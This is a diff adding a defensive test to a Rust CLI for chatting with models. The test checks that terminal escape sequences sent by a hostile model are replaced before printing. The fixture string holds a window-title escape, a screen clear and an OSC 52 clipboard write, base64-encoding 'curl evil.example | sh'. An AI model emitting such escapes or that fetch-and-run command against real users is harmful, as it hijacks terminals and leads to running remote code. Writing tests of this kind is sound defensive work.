@@ -59,6 +59,10 @@ impl TestProvider {
     }
 }
 
+/// What a hostile model writes to take over the client's terminal.
+const ESCAPES: &str =
+    "\x1b]0;pwned-title\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\u{9b}31m\r";
+
 struct NotifyOnDrop(Arc<Notify>);
 
 impl Drop for NotifyOnDrop {
@@ -99,6 +103,17 @@ impl Provider for TestProvider {
                 });
                 Ok(Reply::Stream(
                     futures::stream::iter([chunk("fail"), failure]).boxed(),
+                ))
+            }
+            // Red-team F11: terminal escapes in the model's text and in its error
+            // (a window title, clear screen, an OSC 52 clipboard write).
+            "escape" if task.stream => {
+                let failure = Err(Error::Upstream {
+                    message: format!("{ESCAPES}broken"),
+                });
+                Ok(Reply::Stream(
+                    futures::stream::iter([chunk(&format!("{ESCAPES}looks harmless")), failure])
+                        .boxed(),
                 ))
             }
             _ => self.echo.infer(task).await,
@@ -582,6 +597,27 @@ async fn a_stream_failing_midway_ends_its_line_and_prints_the_error() {
         .await;
     assert_eq!(run.stdout, "fail\n", "{run:#?}");
     run.failed_with("the model crashed");
+}
+
+/// Red-team F11: llmctl never writes a control character a model sent (C0 but
+/// newline and tab, DEL, C1), in the answer or in an error; it shows U+FFFD instead.
+#[tokio::test]
+async fn model_text_reaches_the_terminal_without_control_characters() {
+    let setup = Setup::start().await;
+    let run = setup
+        .llmctl(&["chat", "demo", "--message", "escape now"])
+        .await;
+    for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
+        assert!(
+            !text
+                .chars()
+                .any(|c| c.is_control() && c != '\n' && c != '\t'),
+            "{stream} holds a control character: {text:?}"
+        );
+    }
+    assert!(run.stdout.ends_with("looks harmless\n"), "{run:#?}");
+    assert!(run.stdout.contains('\u{fffd}'), "{run:#?}");
+    run.failed_with("broken");
 }
 
 #[tokio::test]
